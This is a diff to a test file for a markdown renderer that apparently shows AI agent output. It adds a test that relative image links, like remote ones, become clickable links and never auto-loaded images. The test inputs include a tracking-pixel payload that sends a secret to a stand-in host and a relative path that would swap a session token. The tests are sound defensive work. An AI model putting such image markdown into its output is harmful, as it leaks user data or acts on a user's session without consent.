@@ -4,7 +4,7 @@ import { renderMarkdown } from "./renderMarkdown.tsx";
 
 const html = (text: string) => renderToStaticMarkup(<>{renderMarkdown(text)}</>);
 
-describe("[R8] remote images in agent markdown", () => {
+describe("[R8] images in agent markdown", () => {
   it("[R8] become links the person can open, never an <img> the browser fetches by itself", () => {
     const attacks = [
       "![tracking pixel](https://evil.example/pixel.png?data=secret)",
@@ -23,6 +23,14 @@ describe("[R8] remote images in agent markdown", () => {
       expect(out, text).toMatch(/evil\.example|127\.0\.0\.1:9999/i);
     }
     expect({ attempts: attacks.length, through }).toEqual({ attempts: 8, through: 0 });
+  });
+
+  it("[R8] a relative image is a link too: fetched with the person's cookie, `/?token=…` swapped the page's token", () => {
+    for (const text of ["![](/?token=someone-else)", "![x](push/key)", "![y](./diagram.png)"]) {
+      const out = html(text);
+      expect(out, text).not.toContain("<img");
+      expect(out, text).toContain('class="md-remote-image"');
+    }
   });
 
   it("[R8] the link names the image by its alt text, or by its address when it has none", () => {
